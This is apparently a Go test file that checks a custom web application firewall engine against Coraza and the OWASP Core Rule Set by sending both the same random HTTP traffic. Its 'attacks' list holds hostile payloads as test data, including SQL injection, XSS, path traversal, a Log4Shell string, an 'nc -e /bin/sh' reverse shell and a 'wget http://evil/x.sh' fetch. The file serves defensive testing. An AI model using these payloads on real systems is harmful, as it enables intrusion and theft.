package engine_test

import (
	"fmt"
	"math/rand/v2"
	"regexp"
	"sort"
	"strconv"
	"strings"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	"github.com/corazawaf/coraza/v3"
	"github.com/corazawaf/coraza/v3/experimental/plugins/plugintypes"
	"github.com/corazawaf/coraza/v3/types"

	"github.com/testudo-sec/testudo/edge/waf/engine"
	"github.com/testudo-sec/testudo/edge/waf/seclang"
	"github.com/testudo-sec/testudo/internal/require"
)

const shipped = "Include @coraza.conf-recommended\nSecRuleEngine DetectionOnly\nSecAuditEngine Off\nInclude @crs-setup.conf.example\nInclude @owasp_crs/*.conf\n"

// pair is Coraza and the engine with the same directives.
type pair struct {
	coraza coraza.WAF
	engine *engine.Engine
}

func newPair(t testing.TB, directives string) *pair {
	t.Helper()
	waf, err := coraza.NewWAF(coraza.NewWAFConfig().WithRootFS(coreruleset.FS).WithDirectives(directives))
	if err != nil {
		t.Fatal(err)
	}
	program, err := seclang.Parse(coreruleset.FS, directives)
	if err != nil {
		t.Fatal(err)
	}
	e, err := engine.New(program)
	if err != nil {
		t.Fatal(err)
	}
	return &pair{waf, e}
}

type header struct{ name, value string }

// message is what is judged: a request, and a response if there is a status.
type message struct {
	method, uri, proto string
	header             []header
	body               string
	status             int
	respHeader         []header
	respBody           string
	level              int
}

// outcome is what was found, in an order that does not depend on the order of maps.
type outcome struct {
	rules   []string
	scores  string
	verdict string
}

func (o outcome) String() string {
	return strings.Join(o.rules, "\n") + "\n" + o.scores + "\n" + o.verdict + "\n"
}

var scores = strings.Fields("blocking_inbound_anomaly_score detection_inbound_anomaly_score inbound_anomaly_score_pl1 inbound_anomaly_score_pl2 inbound_anomaly_score_pl3 inbound_anomaly_score_pl4 blocking_outbound_anomaly_score outbound_anomaly_score_pl1 sql_injection_score xss_score rfi_score lfi_score rce_score php_injection_score http_violation_score session_fixation_score")

// numbered are keys that rule 922100 counts up, in the order in which Coraza walks a map.
var numbered = regexp.MustCompile(`(multipart_headers_content_types_)\d+`)

func line(id int, message string, data []string) string {
	for i := range data {
		data[i] = numbered.ReplaceAllString(data[i], "${1}N")
	}
	sort.Strings(data)
	return fmt.Sprintf("%06d %q %q", id, message, data)
}

func (p *pair) byCoraza(m *message) outcome {
	tx := p.coraza.NewTransactionWithID("id")
	defer tx.Close()
	vars := tx.(plugintypes.TransactionState).Variables()
	if m.level > 0 {
		vars.TX().Set("blocking_paranoia_level", []string{strconv.Itoa(m.level)})
		vars.TX().Set("detection_paranoia_level", []string{strconv.Itoa(m.level)})
	}
	tx.ProcessConnection("192.0.2.7", 4711, "198.51.100.1", 80)
	tx.ProcessURI(m.uri, m.method, m.proto)
	tx.SetServerName("example.org")
	for _, h := range m.header {
		tx.AddRequestHeader(h.name, h.value)
	}
	tx.ProcessRequestHeaders()
	if m.body != "" {
		_, _, _ = tx.WriteRequestBody([]byte(m.body))
	}
	_, _ = tx.ProcessRequestBody()
	if m.status > 0 {
		for _, h := range m.respHeader {
			tx.AddResponseHeader(h.name, h.value)
		}
		tx.ProcessResponseHeaders(m.status, m.proto)
		_, _, _ = tx.WriteResponseBody([]byte(m.respBody))
		_, _ = tx.ProcessResponseBody()
	}
	tx.ProcessLogging()
	var o outcome
	for _, r := range tx.MatchedRules() {
		var data []string
		for _, d := range r.MatchedDatas() {
			data = append(data, fmt.Sprintf("%s:%s=%q", d.Variable().Name(), d.Key(), d.Value()))
		}
		o.rules = append(o.rules, line(r.Rule().ID(), r.Message(), data))
	}
	for _, name := range scores {
		if v := vars.TX().Get(name); len(v) > 0 {
			o.scores += name + "=" + v[0] + " "
		}
	}
	it := tx.Interruption()
	if it == nil {
		if d, ok := tx.(interface{ DetectionOnlyInterruption() *types.Interruption }); ok {
			it = d.DetectionOnlyInterruption()
		}
	}
	if it != nil {
		o.verdict = fmt.Sprintf("%s %d %d %s", it.Action, it.Status, it.RuleID, it.Data)
	}
	return o
}

func (p *pair) byEngine(m *message) outcome {
	tx := p.engine.Begin("id")
	defer tx.Close()
	if m.level > 0 {
		tx.SetTX("blocking_paranoia_level", strconv.Itoa(m.level))
		tx.SetTX("detection_paranoia_level", strconv.Itoa(m.level))
	}
	tx.Connection("192.0.2.7", 4711, "198.51.100.1", 80)
	tx.URI(m.uri, m.method, m.proto)
	tx.ServerName("example.org")
	for _, h := range m.header {
		tx.RequestHeader(h.name, h.value)
	}
	tx.RequestHeaders()
	if m.body != "" {
		tx.WriteRequestBody([]byte(m.body))
	}
	tx.RequestBody()
	if m.status > 0 {
		for _, h := range m.respHeader {
			tx.ResponseHeader(h.name, h.value)
		}
		tx.ResponseHeaders(m.status, m.proto)
		tx.WriteResponseBody([]byte(m.respBody))
		tx.ResponseBody()
	}
	tx.Logging()
	var o outcome
	for _, r := range tx.Matches() {
		var data []string
		for _, d := range r.Data {
			data = append(data, fmt.Sprintf("%s:%s=%q", d.Variable.Name(), d.Key, d.Value))
		}
		o.rules = append(o.rules, line(r.Rule.ID, r.Message, data))
	}
	for _, name := range scores {
		if v, ok := tx.TX(name); ok {
			o.scores += name + "=" + v + " "
		}
	}
	if it, _ := tx.Interruption(); it != nil {
		o.verdict = fmt.Sprintf("%s %d %d %s", it.Action, it.Status, it.Rule, it.Target)
	}
	return o
}

// compare holds that both find the same.
func (p *pair) compare(t *testing.T, m *message) {
	t.Helper()
	want, got := p.byCoraza(m), p.byEngine(m)
	if want.String() == got.String() {
		return
	}
	// What Coraza says may depend on the order of a map: it has another try.
	for range 5 {
		if p.byCoraza(m).String() == got.String() {
			return
		}
	}
	t.Errorf("%+v\n%s", *m, difference(want, got))
}

var attacks = []string{
	"1' OR '1'='1", "1 UNION SELECT username,password FROM users--", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "../../../../etc/passwd",
	"; cat /etc/passwd", "$(curl http://x/)", "`id`", "${jndi:ldap://x/a}", "php://input", "<?php system('id'); ?>", "O:8:\"stdClass\":0:{}", "() { :; }; echo x",
	"javascript:alert(1)", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "\\u003cscript\\u003e", "&lt;script&gt;", "sleep(5)#", "1;DROP TABLE users", "admin'--",
	"{{7*7}}", "<svg/onload=alert(1)>", "/bin/bash -i", "nc -e /bin/sh 10.0.0.1 4444", "wget http://evil/x.sh", "\r\nSet-Cookie: a=b", "constructor.prototype", "require('child_process')",
	"http://169.254.169.254/latest/meta-data/", "file:///etc/shadow", "/etc/shadow", "xp_cmdshell", "waitfor delay '0:0:5'", "eval(atob('x'))", "onload=alert(1)", "\x00", "\xff\xfe", "ＳＥＬＥＣＴ",
}

var harmless = []string{"hello", "1", "42", "Jane Doe", "jane@example.org", "2026-11-22", "The quick brown fox jumps over the lazy dog.", "true", "", "https://example.org/a?b=c", "a-b_c.d", "O'Brien", "select a colour from the list", "50% off + free", "C:\\Users\\jane", "/home/jane", "{\"a\":1}", "Ünïcödé", "one;two,three"}

func pick(r *rand.Rand, from ...[]string) string {
	list := from[r.IntN(len(from))]
	return list[r.IntN(len(list))]
}

func value(r *rand.Rand) string {
	v := pick(r, attacks, harmless, harmless)
	switch r.IntN(6) {
	case 0:
		v += pick(r, attacks, harmless)
	case 1:
		if len(v) > 1 {
			at := r.IntN(len(v))
			v = v[:at] + string(rune(r.IntN(0x180))) + v[at+1:]
		}
	case 2:
		v = strings.ToUpper(v)
	}
	return v
}

func query(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if c := s[i]; c > ' ' && c < 0x7f && strings.IndexByte("&=#%+?", c) < 0 {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

func randomMessage(r *rand.Rand) *message {
	m := &message{method: pick(r, []string{"GET", "GET", "POST", "POST", "PUT", "HEAD", "OPTIONS", "TRACE", "FOO"}), proto: pick(r, []string{"HTTP/1.1", "HTTP/1.1", "HTTP/2.0", "HTTP/1.0", "HTTP/3"}), level: 1 + r.IntN(4)}
	m.uri = pick(r, []string{"/", "/a/b", "/index.php", "/api/v1/users/7", "/.git/config", "/a.bak", "/wp-login.php", "/%2e%2e/etc/passwd", "/a%00b", "//x//y"})
	for i := range r.IntN(4) {
		m.uri += map[bool]string{true: "?", false: "&"}[i == 0] + pick(r, []string{"q", "id", "Name", "a[]", "x.y", "file", "cmd"}) + "=" + query(value(r))
	}
	m.header = []header{{"Host", pick(r, []string{"example.org", "example.org", "127.0.0.1", ""})}, {"User-Agent", pick(r, []string{"Mozilla/5.0 (X11; Linux x86_64) Chrome/120", "curl/8.0", "sqlmap/1.7", "", value(r)})}, {"Accept", "*/*"}}
	if r.IntN(3) == 0 {
		m.header = append(m.header, header{"Cookie", "sid=" + value(r) + "; theme=dark"})
	}
	if r.IntN(3) == 0 {
		m.header = append(m.header, header{pick(r, []string{"Referer", "X-Forwarded-For", "Range", "X-Custom", "Content-Encoding", "Accept-Charset", "Transfer-Encoding"}), value(r)})
	}
	if m.method == "POST" || m.method == "PUT" {
		randomBody(r, m)
		if r.IntN(8) > 0 {
			m.header = append(m.header, header{"Content-Length", strconv.Itoa(len(m.body))})
		}
	}
	if r.IntN(4) == 0 {
		m.status = []int{200, 404, 500, 302}[r.IntN(4)]
		m.respHeader = []header{{"Content-Type", pick(r, []string{"text/html", "text/plain", "application/json"})}}
		m.respBody = pick(r, harmless, []string{"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version", "<?php echo 1;", "Warning: include(x): failed to open stream", "java.lang.NullPointerException at x", "<title>Index of /</title>", "root:x:0:0:root"})
	}
	return m
}

func randomBody(r *rand.Rand, m *message) {
	kind := ""
	switch r.IntN(6) {
	case 0, 1:
		kind = "application/x-www-form-urlencoded"
		for i := range 1 + r.IntN(4) {
			if i > 0 {
				m.body += "&"
			}
			m.body += fmt.Sprintf("f%d=%s", i, query(value(r)))
		}
	case 2, 3:
		kind = pick(r, []string{"application/json", "application/json; charset=utf-8", "application/vnd.x+json"})
		m.body = fmt.Sprintf(`{"a":%q,"b":[1,2,{"c":%s}],"d":null,"e":true}`, harmless[r.IntN(len(harmless))], strconv.QuoteToASCII(value(r)))
		if r.IntN(5) == 0 {
			m.body = m.body[:r.IntN(len(m.body))]
		}
	case 4:
		kind = "multipart/form-data; boundary=xyz"
		m.body = "--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n" + value(r) + "\r\n--xyz\r\nContent-Disposition: form-data; name=\"up\"; filename=\"" + pick(r, []string{"a.txt", "shell.php", "x.jpg.php"}) +
			"\"\r\nContent-Type: text/plain\r\n\r\n" + value(r) + "\r\n--xyz--\r\n"
		if r.IntN(5) == 0 {
			m.body = m.body[:r.IntN(len(m.body))]
		}
	case 5:
		kind = pick(r, []string{"text/xml", "application/soap+xml", "text/plain", "", "application/octet-stream"})
		m.body = "<a b=\"" + value(r) + "\"><c>" + value(r) + "</c></a>"
	}
	if kind != "" {
		m.header = append(m.header, header{"Content-Type", kind})
	}
}

// TestAsCoraza compares the verdicts on random requests and responses at all levels.
func TestAsCoraza(t *testing.T) {
	p := newPair(t, shipped)
	r := rand.New(rand.NewPCG(3, 5))
	for range 3000 / require.Stride(20) {
		p.compare(t, randomMessage(r))
		if t.Failed() {
			return
		}
	}
}
